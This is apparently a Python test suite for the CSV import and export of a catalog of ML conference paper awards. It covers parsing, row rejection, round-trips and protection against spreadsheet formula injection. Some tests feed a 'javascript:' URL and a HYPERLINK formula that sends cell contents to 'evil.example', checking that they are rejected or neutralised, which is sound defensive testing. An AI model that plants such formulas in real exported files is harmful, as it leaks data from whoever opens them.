from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from bot.catalog.document import DocumentError
from bot.catalog.importers import csv_format
from bot.domain.models import Award, AwardKind, CatalogBatch, Links, Paper, Source

HEADER = "venue,year,award,title"


def _file(tmp_path: Path, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / "awards.csv"
    path.write_bytes(text.encode(encoding))
    return path


def test_reads_a_good_file(tmp_path: Path) -> None:
    text = (
        # Columns in any order; names without regard to case or surrounding spaces.
        " Title ,venue,year,award,kind,track,authors,affiliations,arxiv,doi,code_url,"
        "summary_zh_tw,source_url,paper_year\r\n"
        "Train for the Worst,ICML,2025,Outstanding Paper Award,,,Ada Lovelace; Alan Turing,"
        "MIT;  ,2502.06768v2,10.1145/ABC,https://github.com/x/y,摘要,https://icml.cc/awards,\r\n"
        "Old Paper,neurips,2024,Test of Time Award,test-of-time,,,,,,,,,2014\r\n"
    )
    batch = csv_format.parse(_file(tmp_path, text))
    assert batch.rejected == ()
    first, second = batch.awards
    assert first.venue == "icml"
    assert first.year == 2025
    assert first.name == "Outstanding Paper Award"
    assert first.kind is AwardKind.OUTSTANDING  # derived from the name
    assert first.track is None
    assert first.sources == (Source(url="https://icml.cc/awards"),)
    paper = first.paper
    assert paper.title == "Train for the Worst"
    assert paper.authors == ("Ada Lovelace", "Alan Turing")
    assert paper.affiliations == ("MIT",)
    assert (paper.arxiv, paper.arxiv_version) == ("2502.06768", 2)
    assert paper.doi == "10.1145/abc"
    assert paper.links == Links(code="https://github.com/x/y")
    assert paper.summaries == {"zh-TW": "摘要"}
    assert paper.year is None
    assert second.kind is AwardKind.TEST_OF_TIME
    assert second.paper.year == 2014
    assert second.paper.authors == ()


def test_derives_kind_and_track_from_the_name_unless_given(tmp_path: Path) -> None:
    text = (
        "venue,year,award,kind,track,title\n"
        "icml,2025,Outstanding Position Paper Honorable Mention,,,A\n"
        "icml,2025,Outstanding Position Paper Honorable Mention,,Own Track,B\n"
        "icml,2025,Something,Best,,C\n"
    )
    a, b, c = csv_format.parse(_file(tmp_path, text)).awards
    assert (a.kind, b.kind, c.kind) == (
        AwardKind.HONORABLE_MENTION,
        AwardKind.HONORABLE_MENTION,
        AwardKind.BEST,
    )
    assert a.track is not None
    assert b.track == "Own Track"
    assert c.track is None


def test_reads_the_bom_excel_writes(tmp_path: Path) -> None:
    path = _file(tmp_path, f"{HEADER}\nicml,2025,Best Paper,T\n", encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    batch = csv_format.parse(path)
    assert [a.venue for a in batch.awards] == ["icml"]
    assert batch.rejected == ()


def test_quoted_commas_and_newlines(tmp_path: Path) -> None:
    text = (
        "venue,year,award,title,authors,abstract\r\n"
        'icml,2025,Best Paper,"Scaling, Fast","Doe, Jane; Roe, R.","First line,\r\n'
        "\r\n"
        'second ""paragraph"""\r\n'
        "icml,2025,Best Paper,Second,,\r\n"
        "icml,2025,Best Paper,,,\r\n"
    )
    batch = csv_format.parse(_file(tmp_path, text))
    first, second = batch.awards
    assert first.paper.title == "Scaling, Fast"
    assert first.paper.authors == ("Doe, Jane", "Roe, R.")
    assert first.paper.abstract == 'First line,\n\nsecond "paragraph"'
    assert second.paper.title == "Second"
    # Lines count physical lines: the first record spans lines 2-4.
    assert [(r.where, r.reason) for r in batch.rejected] == [("awards.csv line 6", "empty title")]


def test_a_bad_row_is_rejected_naming_its_column_and_the_rest_is_kept(tmp_path: Path) -> None:
    text = (
        "venue,year,award,title,code_url,paper_year,summary_zh_cn\n"
        "icml,2025,Best Paper,Good,https://github.com/a/b,,\n"
        "icml,2025,Best Paper,Evil,javascript:alert(1),,\n"
        "icml,2025,Best Paper,Late,,1800,\n"
        "icml,2025,Best Paper,Blank,,,\u200b\n"
        "icml,2025,Best Paper,Short\n"
    )
    batch = csv_format.parse(_file(tmp_path, text))
    assert [a.paper.title for a in batch.awards] == ["Good"]
    reasons = {r.where: r.reason for r in batch.rejected}
    assert reasons["awards.csv line 3"] == "code_url: only http and https links are allowed"
    assert reasons["awards.csv line 4"].startswith("paper_year: ")
    assert reasons["awards.csv line 5"] == "summary_zh_cn: must not be empty"
    assert reasons["awards.csv line 6"] == "4 values, but the header has 7 columns"


@pytest.mark.parametrize(
    ("cells", "column"),
    [
        ("ICML 2025,2025,Best,T,,", "venue: "),
        ("icml,twenty,Best,T,,", "year: "),
        ("icml,2025,Best,T,nope,", "arxiv: 'nope' is not an arXiv id"),
        ("icml,2025,Best,T,,10.1/x", "doi: "),
    ],
)
def test_reasons_name_the_column(tmp_path: Path, cells: str, column: str) -> None:
    path = _file(tmp_path, f"venue,year,award,title,arxiv,doi\n{cells}\n")
    (rejection,) = csv_format.parse(path).rejected
    assert rejection.reason.startswith(column)


def test_a_kind_that_does_not_exist_is_rejected(tmp_path: Path) -> None:
    path = _file(tmp_path, "venue,year,award,kind,title\nicml,2025,Best,greatest,T\n")
    (rejection,) = csv_format.parse(path).rejected
    assert rejection.reason.startswith("kind: ")
    assert "outstanding" in rejection.reason


def test_missing_columns_are_an_error(tmp_path: Path) -> None:
    with pytest.raises(DocumentError, match=r"missing column\(s\) year, title"):
        csv_format.parse(_file(tmp_path, "venue,award\nicml,Best\n"))


def test_unknown_columns_are_an_error_naming_them(tmp_path: Path) -> None:
    with pytest.raises(DocumentError, match=r"unknown column\(s\) authros, \(unnamed column 6\)"):
        csv_format.parse(_file(tmp_path, f"{HEADER},authros,\nicml,2025,Best,T,A,\n"))


def test_a_file_without_a_header_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(DocumentError, match="header"):
        csv_format.parse(_file(tmp_path, "\r\n\r\n"))
    with pytest.raises(DocumentError, match=r"unknown column\(s\) icml, 2025"):
        csv_format.parse(_file(tmp_path, "icml,2025,Best,T\n"))


def test_a_column_given_twice_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(DocumentError, match="given twice: title"):
        csv_format.parse(_file(tmp_path, f"{HEADER},Title\nicml,2025,Best,T,U\n"))


def test_a_file_that_is_not_utf8_is_an_error(tmp_path: Path) -> None:
    path = _file(tmp_path, f"{HEADER}\nicml,2025,Best,Café\n", encoding="latin-1")
    with pytest.raises(DocumentError, match=r"awards\.csv: not UTF-8"):
        csv_format.parse(path)


def test_broken_quoting_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(DocumentError, match="line 2"):
        csv_format.parse(_file(tmp_path, f'{HEADER}\nicml,2025,"Best" Paper,T\n'))


def _award(title: str, **paper: object) -> Award:
    return Award.model_validate(
        {"venue": "icml", "year": 2025, "name": "Best Paper", "kind": "best", "paper": {
            "title": title, **paper}}
    )  # fmt: skip


def test_round_trip(tmp_path: Path) -> None:
    full = Award(
        venue="neurips",
        year=2024,
        name="Test of Time Paper Award",
        kind=AwardKind.TEST_OF_TIME,
        track="Main Track",
        sources=(Source(url="https://neurips.cc/awards"),),
        paper=Paper(
            title="Generative Adversarial Nets, revisited",
            authors=("Ian Goodfellow", "Jean Pouget-Abadie", "王小明"),
            affiliations=("Université de Montréal", "國立臺灣大學"),
            year=2014,
            arxiv="1406.2661v1",
            doi="10.5555/2969033.2969125",
            links=Links(
                arxiv="https://arxiv.org/abs/1406.2661",
                pdf="https://arxiv.org/pdf/1406.2661",
                openreview="https://openreview.net/forum?id=abc",
                project="https://example.org/gan",
                code="https://github.com/goodfeli/adversarial",
            ),
            abstract='We propose a "new" framework,\n\nin two paragraphs.',
            summaries={"en": "GANs.", "zh-TW": "生成對抗網路。", "zh-CN": "生成对抗网络。"},
        ),
    )
    minimal = _award("Just a title")
    old = _award("Old form", arxiv="math.GT/0309136v2")
    batch = CatalogBatch(awards=(full, minimal, old))
    text = csv_format.write(batch)
    assert text.splitlines()[0] == ",".join(csv_format.COLUMNS)
    again = csv_format.parse(_file(tmp_path, text))
    assert again.rejected == ()
    assert again.awards == batch.awards
    assert csv_format.write(again) == text


# -- formulas and separators: any stored value exports and reads back unchanged -------------

# What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_CELLS: dict[str, Callable[[str], dict[str, object]]] = {
    "award": lambda v: {"name": v},
    "track": lambda v: {"track": v},
    "title": lambda v: {"paper": {"title": v}},
    "authors": lambda v: {"paper": {"title": "T", "authors": [v, "Second Author"]}},
    "affiliations": lambda v: {"paper": {"title": "T", "affiliations": [v]}},
    "abstract": lambda v: {"paper": {"title": "T", "abstract": v}},
    "summary_zh_tw": lambda v: {"paper": {"title": "T", "summaries": {"zh-TW": v}}},
}


def _award_with(fields: dict[str, object]) -> Award:
    record: dict[str, object] = {"venue": "icml", "year": 2025, "name": "Best Paper"}
    record |= {"kind": "best", "paper": {"title": "T"}} | fields
    return Award.model_validate(record)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("column", TEXT_CELLS)
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_no_written_cell_starts_a_formula(tmp_path: Path, column: str, start: str) -> None:
    payload = f'{start}HYPERLINK("https://evil.example/?x="&A1,"click")'
    try:
        award = _award_with(TEXT_CELLS[column](payload))
    except ValidationError:
        pytest.skip(f"the model does not store a {column} starting with {start!r}")
    text = csv_format.write(CatalogBatch(awards=(award,)))

    (row,) = _cells(text)
    for name, cell in row.items():
        assert not cell.startswith(FORMULA_STARTS), (name, cell)
    if start.strip():  # (a leading tab or CR is white space the model trims when it stores)
        assert row[column].startswith("'")
    assert csv_format.parse(_file(tmp_path, text)).awards == (award,)


@pytest.mark.parametrize(
    "value", ["'Tis a real quote", "''", "'=not a formula", "'", "it's", "O'Brien; Jr"]
)
def test_a_real_leading_quote_survives_the_round_trip(tmp_path: Path, value: str) -> None:
    award = _award_with({"paper": {"title": value, "authors": [value]}})
    text = csv_format.write(CatalogBatch(awards=(award,)))

    assert csv_format.parse(_file(tmp_path, text)).awards == (award,)


def test_hand_written_cells_read_as_a_spreadsheet_shows_them(tmp_path: Path) -> None:
    text = "venue,year,award,title,authors\nicml,2025,Best,'Tis so,'=Eve; 'Tis\\; Bob; C:\\x\n"

    (award,) = csv_format.parse(_file(tmp_path, text)).awards

    assert award.paper.title == "'Tis so"  # only a quote before a formula start or a quote goes
    assert award.paper.authors == ("=Eve", "'Tis; Bob", "C:\\x")


@pytest.mark.parametrize(
    "names",
    [("Smith; John",), ("A;B", ";", "C"), ("back\\slash", "\\;", "end\\"), ("x\\\\;y",)],
    ids=["one", "several", "backslashes", "escaped-escape"],
)
def test_a_separator_inside_a_name_round_trips(tmp_path: Path, names: tuple[str, ...]) -> None:
    try:
        award = _award_with(
            {"paper": {"title": "T", "authors": list(names), "affiliations": list(names)}}
        )
    except ValidationError:
        pytest.skip("the model does not store these names")
    text = csv_format.write(CatalogBatch(awards=(award,)))

    again = csv_format.parse(_file(tmp_path, text))
    assert again.rejected == ()
    assert again.awards == (award,)
    assert again.awards[0].paper.authors == names


# Text that stresses every rule at once: separators, escapes, quotes, formula starts,
# line breaks, commas and scripts other than Latin.
_TRICKY = st.text(
    alphabet=st.one_of(
        st.sampled_from(list(";\\'\"=+-@\t\r\n, 漢字é")),
        st.characters(categories=["L", "N", "P", "S", "Zs"], codec="utf-8"),
    ),
    min_size=1,
    max_size=30,
)
# A piece of text with a troublemaker before it or inside it: a separator, an escape, a quote,
# a formula start.
_MARKS = st.sampled_from([";", "\\;", "\\", "\\\\", "'", "''", "=", "+", "-", "@", '"'])
_MARKED = st.one_of(
    st.builds(lambda mark, text: mark + text, _MARKS, _TRICKY),
    st.builds(lambda a, mark, b: a + mark + b, _TRICKY, _MARKS, _TRICKY),
)
_TEXT = st.one_of(_TRICKY, _MARKED)


@given(
    title=_TEXT,
    authors=st.lists(_TEXT, max_size=4),
    affiliations=st.lists(_TEXT, max_size=3),
    abstract=st.one_of(st.none(), _TEXT),
    track=st.one_of(st.none(), _TEXT),
    name=_TEXT,
    summary=st.one_of(st.none(), _TEXT),
)
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
def test_any_stored_award_exports_and_reads_back_unchanged(
    title: str,
    authors: list[str],
    affiliations: list[str],
    abstract: str | None,
    track: str | None,
    name: str,
    summary: str | None,
) -> None:
    paper: dict[str, object] = {"title": title, "authors": authors, "affiliations": affiliations}
    if abstract is not None:
        paper["abstract"] = abstract
    if summary is not None:
        paper["summaries"] = {"zh-CN": summary}
    try:  # what the store can hold is what the model accepts
        award = _award_with({"name": name, "track": track, "paper": paper})
    except ValidationError:
        assume(False)
        return
    event("author with ;" if any(";" in a for a in award.paper.authors) else "no ;")
    event("formula start" if award.paper.title.startswith(FORMULA_STARTS) else "plain title")
    text = csv_format.write(CatalogBatch(awards=(award,)))
    with tempfile.TemporaryDirectory() as folder:
        again = csv_format.parse(_file(Path(folder), text))

    assert again.rejected == ()
    assert again.awards == (award,)
    for cell in _cells(text)[0].values():
        assert not cell.startswith(FORMULA_STARTS)
